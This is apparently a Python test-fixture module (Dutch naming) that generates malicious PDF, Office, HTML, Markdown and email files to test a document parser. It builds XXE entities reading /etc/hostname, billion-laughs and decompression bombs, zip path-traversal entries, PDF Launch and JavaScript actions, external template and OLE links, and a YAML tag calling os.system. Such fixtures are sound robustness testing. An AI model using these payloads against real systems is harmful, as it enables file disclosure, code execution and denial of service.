"""Files that were made to harm who reads them; each name says what it tries."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import docx
import openpyxl
import pptx
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

SAID = "Dit is gewone tekst van een bladzijde."
OUTSIDE = "/etc/hostname"


def pdf(*objects: bytes, root: int = 1, extra: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1, with a right cross-reference."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, extra, start)
    return bytes(out)


def stream(data: bytes, more: bytes = b"", length: int | None = None) -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data) if length is None else length, more, data)


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FONT = b"<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
SHOWN = b"BT /F 12 Tf 72 700 Td (%s) Tj ET" % SAID.encode()


def page(content: bytes = b"4 0 R", box: bytes = b"0 0 595 842", more: bytes = b"") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Resources %s%s>>/Contents %s>>" % (box, FONT, more, content)


def deflated(size: int, times: int = 1) -> tuple[bytes, bytes]:
    """Zeros that were packed so many times, and the filters that unpack them."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(size)) + packer.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data, b"/Filter[%s]" % (b"/FlateDecode " * times)


def _encrypted() -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption("open", "eigenaar"))
    canvas.drawString(72, 700, SAID)
    canvas.save()
    return out.getvalue()


def _good() -> bytes:
    return pdf(CATALOG, PAGES, page(), stream(SHOWN))


def _deep(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def _forms() -> bytes:
    """Two forms that draw each other."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    return pdf(CATALOG, PAGES, page(more=b"/XObject<</X 5 0 R>>"), stream(SHOWN + b" /X Do"),
               stream(b"/X Do", form % 6), stream(b"/X Do", form % 5))  # fmt: skip


def _pdfs() -> dict[str, bytes]:
    return {
        "kring-van-bladzijden.pdf": pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
        "bladzijde-is-eigen-ouder.pdf": pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 999999/Parent 2 0 R>>"),
        "kring-van-inhoud.pdf": pdf(CATALOG, PAGES, page(b"[4 0 R]"), b"[4 0 R]"),
        "kring-van-vormen.pdf": _forms(),
        "kring-van-outlines.pdf": pdf(b"<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>", PAGES, page(), stream(SHOWN),
                                      b"<</First 6 0 R/Last 6 0 R>>", b"<</Title(a)/Next 6 0 R/First 6 0 R/Parent 5 0 R>>"),
        "kring-van-xref.pdf": _good().replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 15"),
        "lengte-is-zichzelf.pdf": pdf(CATALOG, PAGES, page(), b"<</Length 4 0 R>>stream\n" + SHOWN + b"\nendstream"),
        "lengte-te-groot.pdf": pdf(CATALOG, PAGES, page(), stream(SHOWN, length=2_000_000_000)),
        "reuzenblad.pdf": pdf(CATALOG, PAGES, page(box=b"0 0 99999999 99999999"), stream(SHOWN)),
        "omgekeerd-blad.pdf": pdf(CATALOG, PAGES, page(box=b"900 900 -900 nan"), stream(SHOWN)),
        "diep-genest.pdf": pdf(CATALOG, PAGES, page(), stream(SHOWN), _deep(300_000)),
        "diepe-inhoud.pdf": pdf(CATALOG, PAGES, page(), stream(b"q " * 500_000 + SHOWN + _deep(200_000) + b" TJ")),
        "opent-een-bestand.pdf": pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(" + OUTSIDE.encode() + b")>>>>",
                                     PAGES, page(), stream(SHOWN)),
        "script.pdf": pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(while(1){app.alert(1)})>>>>", PAGES, page(),
                          stream(SHOWN)),
        "inhoud-van-buiten.pdf": pdf(CATALOG, PAGES, page(), b"<</Length 0/F(" + OUTSIDE.encode() + b")>>stream\n\nendstream"),
        "half.pdf": _good()[:300],
        "zonder-einde.pdf": _good()[:-60],
        "alleen-kop.pdf": b"%PDF-1.7\n",
        "xref-van-nullen.pdf": _good().replace(b" n \n", b" f \n"),
        "wachtwoord.pdf": _encrypted(),
        "letters-zonder-einde.pdf": pdf(CATALOG, PAGES, page(more=b"/Font<</G<</Type/Font/Subtype/Type0/ToUnicode 5 0 R>>>>"),
                                        stream(SHOWN), stream(b"1 beginbfrange <0000> <ffffffff> <0000> endbfrange" * 50_000)),
    }  # fmt: skip


def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _parts(made: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        return {n: archive.read(n) for n in archive.namelist()}


def word(edit: Callable[[bytes], bytes] = lambda xml: xml, **more: bytes) -> bytes:
    """A Word file whose main part is edited, with more parts."""
    out, document = io.BytesIO(), docx.Document()
    document.add_paragraph(SAID)
    document.save(out)
    parts = _parts(out.getvalue())
    parts["word/document.xml"] = edit(parts["word/document.xml"])
    return zipped(parts | {k.replace("__", "/"): v for k, v in more.items()})


def workbook(edit: Callable[[bytes], bytes] = lambda xml: xml) -> bytes:
    out, book = io.BytesIO(), openpyxl.Workbook()
    book.active.append([SAID, "x"])
    book.save(out)
    parts = _parts(out.getvalue())
    parts["xl/worksheets/sheet1.xml"] = edit(parts["xl/worksheets/sheet1.xml"])
    return zipped(parts)


def slides() -> dict[str, bytes]:
    out, deck = io.BytesIO(), pptx.Presentation()
    deck.slides.add_slide(deck.slide_layouts[0]).shapes.title.text = SAID
    deck.save(out)
    return _parts(out.getvalue())


def _entity(xml: bytes, declared: bytes, used: bytes = b"&x;") -> bytes:
    head, _, rest = xml.partition(b"?>")
    return head + b"?><!DOCTYPE w [" + declared + b"]>" + rest.replace(SAID.encode(), used)


def _laughs(xml: bytes) -> bytes:
    lines = [b'<!ENTITY a "ha">'] + [b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)]
    return _entity(xml, b"".join(lines), b"&j;")


def _office() -> dict[str, bytes]:
    steal = b'<!ENTITY x SYSTEM "file://' + OUTSIDE.encode() + b'">'
    away = b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
    rels = _parts(word())["word/_rels/document.xml.rels"]
    deck = slides()
    first = deck["ppt/slides/slide1.xml"]
    nested = b"<w:tbl><w:tr><w:tc>" * 4000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 4000
    return {
        "entiteit.docx": word(lambda xml: _entity(xml, steal)),
        "lachers.docx": word(_laughs),
        "sjabloon-van-buiten.docx": word(word___rels__x=b"", **{
            "word___rels__document.xml.rels": rels.replace(b"</Relationships>", away % (b"attachedTemplate", b"http://192.0.2.7/x.dotm"))}),
        "beeld-van-buiten.docx": word(**{
            "word___rels__document.xml.rels": rels.replace(b"</Relationships>", away % (b"image", b"file:///etc/hostname"))}),
        "pad-omhoog.docx": word(**{"..__..__buiten.txt": b"weg"}),
        "vast-pad.docx": word(**{"__tmp__buiten.txt": b"weg"}),
        "duizenden-delen.docx": word(**{f"word__media__{n}.bin": b"x" for n in range(3000)}),
        "diep.docx": word(lambda xml: xml.replace(b"<w:sectPr", nested + b"<w:sectPr")),
        "half.docx": word()[:2000],
        "geen-hoofddeel.docx": zipped({"word/document.xml": b"<w:document"}),
        "leeg-deel.docx": word(lambda xml: b""),
        "heeft-zichzelf.docx": zipped({"word/document.xml": word()}),
        "entiteit.xlsx": workbook(lambda xml: _entity(xml.replace(b"<worksheet", b'<?x ?><worksheet', 1), steal)),
        "miljoen-rijen.xlsx": workbook(lambda xml: xml.replace(b'<dimension ref="A1:B1"', b'<dimension ref="A1:XFD1048576"')
                                       .replace(b'r="B1"', b'r="XFD1"')),
        "verre-rij.xlsx": workbook(lambda xml: xml.replace(b'<row r="1"', b'<row r="1048576"').replace(b'r="A1"', b'r="A1048576"')
                                   .replace(b'r="B1"', b'r="XFD1048576"')),
        "half.xlsx": workbook()[:1500],
        "entiteit.pptx": zipped(deck | {"ppt/slides/slide1.xml": _entity(first, steal)}),
        "buiten.pptx": zipped(deck | {"ppt/slides/_rels/slide1.xml.rels": deck["ppt/slides/_rels/slide1.xml.rels"].replace(
            b"</Relationships>", away % (b"oleObject", b"file:///etc/hostname"))}),
    }  # fmt: skip


def _texts() -> dict[str, bytes]:
    return {
        "entiteiten.html": b'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/hostname">]><html><body><p>&x; ' + SAID.encode(),
        "van-buiten.html": b'<html><body><img src="http://192.0.2.7/a.png"><link href="http://192.0.2.7/a.css" rel="stylesheet">'
        b'<iframe src="file:///etc/hostname"></iframe><object data="file:///etc/hostname"></object><p>' + SAID.encode(),
        "onaf.html": b"<html><body><p>" + SAID.encode() + b"<table><tr><td",
        "diep.md": b">" * 100_000 + b" " + SAID.encode(),
        "haakjes.md": b"[" * 50_000 + SAID.encode() + b"](x)" * 50_000,
        "yaml.md": b"---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c]\n"
        b"e: !!python/object/apply:os.system ['true']\n---\n" + SAID.encode(),
        "lange-regel.txt": b"A" * 5_000_000 + b" " + SAID.encode(),
        "nullen.txt": b"\0" * 100_000,
        "half-utf16.txt": b"\xff\xfe" + SAID.encode("utf-16-le")[:-1],
        "eml-in-eml.eml": b"Content-Type: message/rfc822\n\n" * 3000 + b"Subject: x\n\n" + SAID.encode(),
        "pdf-als.docx": _good(),
        "docx-als.pdf": word(),
        "programma.pdf": b"MZ" + b"\x90" * 5000,
        "zip-als.xlsx": zipped({"a.txt": b"x"}),
        "leeg.pdf": b"",
        "html-als.pdf": b"<html><body>" + SAID.encode(),
        "oud.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
    }  # fmt: skip


def _bombs() -> dict[str, bytes]:
    """What takes seconds to make or to read."""
    bomb, filters = deflated(800)
    twice, two = deflated(400, 2)
    deck = slides()
    return {
        "bom.pdf": pdf(CATALOG, PAGES, page(), stream(bomb, filters)),
        "bom-in-bom.pdf": pdf(CATALOG, PAGES, page(), stream(twice, two)),
        "looplengte.pdf": pdf(CATALOG, PAGES, page(), stream(b"\x81 " * 2_000_000 + b"\x80", b"/Filter/RunLengthDecode")),
        "miljoen-letters-op-een-plek.pdf": pdf(CATALOG, PAGES, page(), stream(b"BT /F 1 Tf " + b"(x) Tj " * 400_000 + b"ET")),
        "reuzenbeeld.pdf": pdf(CATALOG, PAGES, page(more=b"/XObject<</X 5 0 R>>"), stream(SHOWN + b" 500 0 0 500 0 0 cm /X Do"),
                               stream(deflated(900)[0], b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
                                      b"/ColorSpace/DeviceRGB/Filter/FlateDecode")),
        "bom.docx": word(word__media__x=b"\0" * 250_000_000),
        "bom.pptx": zipped(deck | {"ppt/media/x.png": b"\0" * 240_000_000}),
        "diep.html": b"<html><body>" + b"<div>" * 200_000 + SAID.encode() + b"</div>" * 200_000,
        "miljoen-cellen.html": b"<table>" + b"<tr><td>1<td>2<td>3" * 150_000 + b"</table>",
        "delen-zonder-einde.eml": b'Subject: x\nContent-Type: multipart/mixed; boundary="a"\n\n' + b"--a\n\nx\n" * 20_000,
    }  # fmt: skip


def files(folder: Path, *, bombs: bool) -> list[Path]:
    """All of them, written into the folder; `bombs` are what takes long."""
    folder.mkdir(parents=True, exist_ok=True)
    made = []
    for name, content in {**_pdfs(), **_office(), **_texts(), **(_bombs() if bombs else {})}.items():
        (folder / name).write_bytes(content)
        made.append(folder / name)
    return made
